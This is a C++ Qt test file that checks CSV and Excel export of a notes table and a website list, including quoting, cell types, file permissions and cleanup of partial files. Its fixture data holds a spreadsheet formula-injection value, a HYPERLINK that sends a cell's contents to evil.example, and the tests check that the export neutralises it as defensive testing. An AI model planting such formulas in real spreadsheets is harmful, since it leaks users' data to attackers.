// Export of notes tables and of the website list to CSV and Excel; the Excel
// files are read back by openpyxl, a reader that is not ours.
#include "ExchangeFixture.h"

#include "exchange/ExchangeError.h"
#include "exchange/TableExport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTest>
#include <sys/stat.h>
#include <unistd.h>

using namespace exchange;

namespace {

// What openpyxl sees: per cell its Python type and value, column widths,
// the frozen pane and whether the header is bold.
const char *ReadBack = R"PY(
import json, sys, datetime, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
cells = [[["formula" if c.data_type == "f" else type(c.value).__name__,
           c.value.date().isoformat() if isinstance(c.value, datetime.datetime) else c.value]
          for c in row] for row in ws.iter_rows()]
widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width for i in range(ws.max_column)]
print(json.dumps({"cells": cells, "widths": widths, "freeze": ws.freeze_panes,
                  "wrapped": [bool(c.alignment.wrap_text) for c in ws["B"]],
                  "bold": all(c.font.b for c in ws[1])}))
)PY";

// Debian's python3-openpyxl belongs to the system's Python, which a
// per-user Python on the PATH may hide.
QString python3()
{
    const QString system = QStringLiteral("/usr/bin/python3");
    return QFile::exists(system) ? system : QStringLiteral("python3");
}

QJsonObject readXlsx(const QString &path)
{
    QProcess python;
    python.start(python3(), {QStringLiteral("-c"), QString::fromUtf8(ReadBack), path});
    if (!python.waitForFinished(60000) || python.exitCode() != 0)
        qFatal("openpyxl could not read %s: %s", qPrintable(path), python.readAllStandardError().constData());
    return QJsonDocument::fromJson(python.readAllStandardOutput()).object();
}

QString describe(const QJsonArray &row)
{
    QStringList out;
    for (const QJsonValue &cell : row) {
        const QJsonArray c = cell.toArray();
        out << c[0].toString() + QLatin1Char(':') + c[1].toVariant().toString();
    }
    return out.join(QLatin1Char('|'));
}

} // namespace

class TestExport : public QObject, private ExchangeFixture {
    Q_OBJECT

private slots:
    void initTestCase()
    {
        if (!QFile::exists(python3()) && QStandardPaths::findExecutable(python3()).isEmpty())
            QFAIL("python3 with openpyxl is needed (scripts/packages.sh installs it)");
    }
    void init()
    {
        start();
        m_db->exec("INSERT INTO biji1([时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1]) VALUES"
                   "('2011-10-03','第二次, 有\"引号\"\r\n第二行','收入160/反向35','0','=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")','007','百度8/谷歌6'),"
                   "('2011-09-05',NULL,'收入155/反向31','123456789012345','-3.5','3','')");
    }
    void cleanup() { stop(); }

    void notes()
    {
        const QString out = m_db->dir() + "/notes.csv";
        db::Connection conn;
        conn.open(Database::notebook);
        QCOMPARE(exportNotesTable(conn, "biji1", Format::Csv, out), 2);
        // Oldest day first, AutoId left out, dates as yyyy-m-d, quoted only where needed.
        QCOMPARE(fileBytes(out), QByteArray("\xEF\xBB\xBF"
                                            "时间,备注,百度收入量,谷歌收入量,雅虎收入量,PR,◆关键词1\r\n"
                                            "2011-9-5,,收入155/反向31,123456789012345,-3.5,3,\r\n"
                                            "2011-10-3,\"第二次, 有\"\"引号\"\"\r\n第二行\",收入160/反向35,0,"
                                            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",007,百度8/谷歌6\r\n"));
        // The same as Excel reads it.
        QCOMPARE(exportNotesTable(conn, "biji1", Format::Xlsx, m_db->dir() + "/notes.xlsx"), 2);
        const QJsonObject book = readXlsx(m_db->dir() + "/notes.xlsx");
        const QJsonArray cells = book["cells"].toArray();
        QCOMPARE(cells.size(), 3);
        QCOMPARE(describe(cells[0].toArray()),
                 "str:时间|str:备注|str:百度收入量|str:谷歌收入量|str:雅虎收入量|str:PR|str:◆关键词1");
        // Dates are dates; a whole number of up to 15 digits is a number, "007" and "收入155/反向31" stay
        // text, and so does a formula; empty stays empty; a memo wraps, its lines broken by LF alone.
        QCOMPARE(describe(cells[1].toArray()),
                 "datetime:2011-09-05|NoneType:|str:收入155/反向31|int:123456789012345|float:-3.5|int:3|NoneType:");
        QCOMPARE(describe(cells[2].toArray()), "datetime:2011-10-03|str:第二次, 有\"引号\"\n第二行|str:收入160/反向35|int:0|"
                                               "str:=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")|str:007|str:百度8/谷歌6");
        QCOMPARE(book["wrapped"].toArray(), (QJsonArray{false, false, true}));
        QCOMPARE(book["freeze"].toString(), QStringLiteral("A2"));
        QVERIFY(book["bold"].toBool());
        // Wide enough for the longest content: "收入155/反向31" is 14 columns wide.
        const QJsonArray widths = book["widths"].toArray();
        QVERIFY2(widths[2].toDouble() >= 14, qPrintable(QString::number(widths[2].toDouble())));
        QVERIFY(widths[5].toDouble() < widths[2].toDouble());
    }

    void websites_data()
    {
        QTest::addColumn<QString>("query");
        QTest::addColumn<QStringList>("names");
        QTest::addColumn<QByteArray>("csv"); // after the header
        QTest::newRow("whole catalogue") << catalogueQuery() << QStringList{"新站", "老站, \"引号\""}
                                         << QByteArray("2,新站,http://new.example,2012-3-4,\r\n"
                                                       "1,\"老站, \"\"引号\"\"\",http://old.example,2009-1-2,'@SUM(1+1)\r\n");
        QTest::newRow("search result") << "SELECT Webid As 编号, Webname As 网站名称, Weburl As 网址, Webtime As 接单日期, "
                                          "Webmemos As 备注信息 FROM Website  where Webname Like '%新%' order by webid"
                                       << QStringList{"新站"} << QByteArray("2,新站,http://new.example,2012-3-4,\r\n");
    }

    void websites()
    {
        QFETCH(QString, query);
        QFETCH(QStringList, names);
        QFETCH(QByteArray, csv);
        m_db->exec("INSERT INTO Website(Webname,Weburl,Webtime,Webmemos) VALUES"
                   "('老站, \"引号\"','http://old.example','2009-01-02','@SUM(1+1)'),('新站','http://new.example','2012-03-04','')");
        db::Connection conn;
        conn.open(Database::notebook);
        const QString csvPath = m_db->dir() + "/sites.csv";
        const QString xlsxPath = m_db->dir() + "/sites.xlsx";
        QCOMPARE(exportWebsites(conn, query, Format::Csv, csvPath), names.size());
        QCOMPARE(exportWebsites(conn, query, Format::Xlsx, xlsxPath), names.size());

        QCOMPARE(fileBytes(csvPath), "\xEF\xBB\xBF编号,网站名称,网址,接单日期,备注信息\r\n" + csv);
        const QJsonArray cells = readXlsx(xlsxPath)["cells"].toArray();
        QCOMPARE(cells.size(), names.size() + 1);
        for (int i = 0; i < names.size(); ++i) {
            const QJsonArray row = cells[i + 1].toArray();
            QCOMPARE(row[0].toArray()[0].toString(), QStringLiteral("int"));
            QCOMPARE(row[1].toArray()[1].toString(), names[i]);
            QCOMPARE(row[3].toArray()[0].toString(), QStringLiteral("datetime"));
        }
    }

    // The file on disk: the user's umask (or the replaced file's mode) for CSV and Excel alike, dead
    // partials of killed exports cleaned, a live export's kept, a failed write naming the file and why
    // and leaving the older file as it was.
    void targetFile_data()
    {
        QTest::addColumn<int>("format");
        QTest::addColumn<QString>("name");
        QTest::addColumn<int>("umaskBits");
        QTest::addColumn<int>("oldMode"); // 0: no older file
        QTest::addColumn<long>("sizeLimit"); // RLIMIT_FSIZE, 0: none
        QTest::addColumn<QString>("refusal"); // empty: written, then the mode expected is oldMode or 0666 & ~umask
        const auto csv = int(Format::Csv), xlsx = int(Format::Xlsx);
        QTest::newRow("csv, umask 027") << csv << "out.csv" << 027 << 0 << 0L << "";
        QTest::newRow("xlsx, umask 022") << xlsx << "out.xlsx" << 022 << 0 << 0L << "";
        QTest::newRow("xlsx over a 0640 file") << xlsx << "out.xlsx" << 077 << 0640 << 0L << "";
        QTest::newRow("csv, file size limit") << csv << "out.csv" << 022 << 0644 << 40L << "/out.csv：文件超过了系统允许的大小";
        QTest::newRow("xlsx, file size limit") << xlsx << "out.xlsx" << 022 << 0644 << 2000L << "/out.xlsx：文件超过了系统允许的大小";
        QTest::newRow("csv, missing folder") << csv << "no/out.csv" << 022 << 0 << 0L << "无法在 ";
        QTest::newRow("xlsx, missing folder") << xlsx << "no/out.xlsx" << 022 << 0 << 0L << "无法在 ";
    }
    void targetFile()
    {
        QFETCH(int, format);
        QFETCH(QString, name);
        QFETCH(int, umaskBits);
        QFETCH(int, oldMode);
        QFETCH(long, sizeLimit);
        QFETCH(QString, refusal);
        const QString dir = m_db->dir() + "/out", target = dir + "/" + name;
        QVERIFY(QDir().mkpath(dir));
        const QString live = QStringLiteral("%1/.%2.%3-0.part").arg(dir, QFileInfo(name).fileName()).arg(getpid());
        for (const char *leftover : {".out.csv.2147483647-1.part", ".out.xlsx.Ab12Cd.part"})
            QVERIFY(QFile(dir + "/" + QString(leftover)).open(QIODevice::WriteOnly));
        QVERIFY(QFile(live).open(QIODevice::WriteOnly));
        if (oldMode) {
            QFile old(target);
            QVERIFY(old.open(QIODevice::WriteOnly) && old.write("older") == 5);
            QVERIFY(::chmod(QFile::encodeName(target).constData(), mode_t(oldMode)) == 0);
        }
        db::Connection conn;
        conn.open(Database::notebook);
        m_db->exec("INSERT INTO biji1([时间],[备注]) VALUES" + QStringList(400, "('2012-01-02','" + QString(100, 'x') + "')").join(','));
        const mode_t oldMask = ::umask(mode_t(umaskBits));
        QString message;
        try {
            const FileSizeLimit limit(sizeLimit);
            exportNotesTable(conn, "biji1", Format(format), target);
        } catch (const Failure &e) {
            message = e.message();
        }
        ::umask(oldMask);
        if (refusal.isEmpty())
            QCOMPARE(message, QString());
        else
            QVERIFY2(message.contains(refusal), qPrintable(message));
        if (!QFileInfo::exists(QFileInfo(target).absolutePath()))
            return;
        struct stat st {};
        QCOMPARE(::stat(QFile::encodeName(target).constData(), &st) == 0, refusal.isEmpty() || oldMode);
        QCOMPARE(int(st.st_mode & 07777), oldMode ? oldMode : refusal.isEmpty() ? 0666 & ~umaskBits : 0);
        if (!refusal.isEmpty() && oldMode)
            QCOMPARE(fileBytes(target), QByteArray("older"));
        // Beside it only the live export's partial: the dead ones and this export's own are gone.
        QStringList expected{QFileInfo(live).fileName(), name};
        expected.sort();
        if (!refusal.isEmpty() && !oldMode)
            expected.removeOne(name);
        QCOMPARE(QDir(dir).entryList(QDir::Files | QDir::Hidden, QDir::Name), expected);
    }
};

QTEST_MAIN(TestExport)
#include "tst_export.moc"
